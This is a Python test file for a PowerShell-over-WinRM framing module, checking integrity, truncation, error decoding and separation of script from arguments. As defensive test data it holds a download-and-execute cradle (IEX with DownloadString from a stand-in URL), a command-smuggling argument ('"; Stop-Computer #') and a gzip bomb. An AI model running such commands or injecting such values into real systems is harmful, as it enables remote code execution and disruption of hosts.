"""What goes into PowerShell and what comes out of it, without a connection: nothing damaged passes, no text is lost."""

from __future__ import annotations

import base64
import gzip
import hashlib
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tasks.model import TargetError
from tasks.transports.winrm_frame import blocked, bootstrap, framed, is_ours, packed, shipped, told, unframed
from tests.powershell.lint import faults

CLIXML = b'#< CLIXML\r\n<Objs Version="1.1.0.1" xmlns="http://schemas.microsoft.com/powershell/2004/04">%s</Objs>'


@given(st.binary(max_size=4000))
def test_any_answer_survives_its_frame(answer: bytes) -> None:
    """What a script returned is what the caller gets, with a byte order mark before it or without."""
    assert unframed(framed(answer), "try") == answer
    assert unframed(b"\xef\xbb\xbf" + framed(answer), "try") == answer


def test_what_no_xml_reader_takes_is_taken_out_of_an_event() -> None:
    """One control character in a logged command must not cost the whole event (XML 1.0, 2.2: Char)."""
    unfit = re.search(r"\$unfit = '(.+)'", shipped("look").decode())
    assert unfit is not None
    assert re.sub(unfit[1], "?", "a\x00\x1bb\ud800c\udc00\ufffe\t\r\n中") == "a??b?c??\t\r\n中"


def test_an_answer_whose_base64_spells_the_end_is_whole() -> None:
    """Base64 of compressed data spells END once in a few hundred KB, at a line's start too; only a line of its own is the end."""
    found = 0
    for number in range(4000):
        answer = hashlib.sha512(b"%d" % number).digest() * 2
        found += b"END" in framed(answer).partition(b"\r\n")[2].removesuffix(b"END\r\n")
        assert unframed(framed(answer), "try") == answer
    assert found, "no answer of this test has the word in its base64: make more of them"


@given(st.binary(min_size=1, max_size=400), st.data())
def test_no_damage_passes(answer: bytes, data: st.DataObject) -> None:
    """One changed byte anywhere in the frame is noticed, or it changed nothing that counts."""
    good = bytearray(framed(answer))
    at = data.draw(st.integers(0, len(good) - 1))
    good[at] ^= data.draw(st.integers(1, 255))
    try:
        assert unframed(bytes(good), "try") == answer
    except TargetError as error:
        assert error.seen


@given(st.binary(min_size=1, max_size=400), st.integers(min_value=0))
def test_a_cut_frame_is_told(answer: bytes, at: int) -> None:
    """A frame that ends early is never an answer."""
    whole = framed(answer).rstrip()
    with pytest.raises(TargetError, match=r"cut|no framed answer|damaged"):
        unframed(whole[: at % len(whole)], "try")


@pytest.mark.parametrize(
    ("printed", "says"),
    [
        (b"", "no framed answer came, but nothing"),
        (b"Microsoft Windows [Version 10.0]\r\n", "no framed answer came, but 'Microsoft Windows"),
        (b"WARNING: profile\r\n" + framed(b"{}"), "mixed with other output: 'WARNING: profile"),
        (framed(b"{}") + b"\x1b[31mmore", "mixed with other output: '.*more"),
        (framed(b"{}").replace(b"END", b""), "cut: its end is missing"),
        (framed(b"{}").replace(b"BEGIN 2 ", b"BEGIN 3 "), "2 bytes unpacked, 3 were announced"),
        (b"BEGIN 2 " + b"0" * 64 + b"\r\n" + framed(b"{}").split(b"\r\n", 1)[1], "its hash is wrong"),
        (b"BEGIN 9999999999 " + b"0" * 64 + b"\nEND", "are the limit"),
        (b"BEGIN 2 " + b"0" * 64 + b"\n????\nEND", "cannot be unpacked"),
    ],
    ids=lambda value: value[:24] if isinstance(value, str) else "",
)
def test_a_wrong_frame_says_what_is_wrong(printed: bytes, says: str) -> None:
    """A person learns whether output was lost, mixed or changed."""
    with pytest.raises(TargetError, match=says):
        unframed(printed, "run a script")


def test_an_answer_that_unpacks_to_more_than_it_says_is_not_unpacked() -> None:
    """A small message that swells is cut off at its announced length."""
    bomb = base64.b64encode(gzip.compress(b"0" * (64 << 20)))
    with pytest.raises(TargetError, match="11 bytes unpacked, 10 were announced"):
        unframed(b"BEGIN 10 " + b"0" * 64 + b"\n" + bomb + b"\nEND", "try")


@pytest.mark.parametrize(
    ("err", "text"),
    [
        (b"", ""),
        (CLIXML % b'<Obj S="progress" RefId="0"><MS><I64 N="SourceId">1</I64></MS></Obj>', ""),
        (
            CLIXML % b'<S S="Error">one_x000D__x000A_</S><S S="verbose">no</S><S S="Error">two_x000D__x000A_</S>',
            "one two",
        ),
        (CLIXML % b'<S S="Error">first_x000D__x000A_</S>' + CLIXML % b'<S S="Error">second</S>', "first second"),
        (CLIXML % b'<S S="Error">_x65E0__x6CD5_ &lt;C:\\a_x005F_b&gt; _xD83D__xDE00_</S>', "无法 <C:\\a_b> \U0001f600"),
        (CLIXML % '<S S="Error">拒绝访问</S>'.encode("cp936"), "拒绝访问"),
        ("系统找不到指定的文件。\r\n".encode("cp936"), "系统找不到指定的文件。"),
        (CLIXML % b'<S S="Error">_x001B_[31mred_x202E_</S>', "\\x1b[31mred\\u202e"),
    ],
    ids=["none", "progress", "several", "two documents", "decoded", "cp936", "cmd in cp936", "hostile"],
)
def test_powershells_errors_are_read_whole(err: bytes, text: str) -> None:
    """Every error record, none of the others, in any code page, harmless on a terminal."""
    assert told(err) == text


def test_a_host_without_powershell_for_us_is_told_apart_from_a_script_that_failed() -> None:
    """Constrained language and a forbidden powershell.exe call for console tools; an error of the script does not."""
    assert "constrained" in blocked(20, b"LANGUAGE ConstrainedLanguage\r\n", b"")
    assert "group policy" in blocked(1, b"", b"This program is blocked by group policy.")
    assert blocked(1, b"", CLIXML % b'<S S="Error">x</S>') == ""
    assert blocked(0, framed(b"{}"), b"") == ""


def test_the_bootstrap_is_short_ascii_and_clean() -> None:
    """It must fit cmd's 8,191 characters with room to spare, and PowerShell 5.1 must parse it."""
    encoded = bootstrap()[-1]
    assert len(encoded) < 3000
    text = base64.b64decode(encoded).decode("utf-16-le")
    assert text.isascii()
    assert [str(fault) for fault in faults(shipped("boot"))] == []
    header = shipped("boot").split(b"\n", 1)[0]
    assert [str(fault) for fault in faults(header + b"\n" + text.encode())] == []
    assert "$input" in text.split("\n", 1)[0], "standard input is read first, before anything may stop"


def test_arguments_are_never_part_of_the_script() -> None:
    """Script and arguments are two lines; PowerShell code in an argument is text."""
    script, data, rest = packed(b"$Json", b'"; Stop-Computer #').split(b"\n")
    assert gzip.decompress(base64.b64decode(script)) == b"$Json"
    assert gzip.decompress(base64.b64decode(data)) == b'"; Stop-Computer #'
    assert rest == b""


def test_only_our_own_scripts_are_ours() -> None:
    """A logged script block is ours when each line of it is; one line more of another's and it is not."""
    look = shipped("look").decode()
    assert is_ours(look)
    assert is_ours(look[:4000])
    assert is_ours(look[:4000].replace("\n", "\r\n"))
    assert not is_ours(look[:3000] + "\nInvoke-Evil\n" + look[3000:3500])
    assert not is_ours("IEX (New-Object Net.WebClient).DownloadString('http://x')")


def test_an_old_powershell_is_told_as_one() -> None:
    """Version 2 has none of the commands that a look uses: console tools have to do."""
    assert "version 2" in blocked(20, b"LANGUAGE V2\r\n", b"")
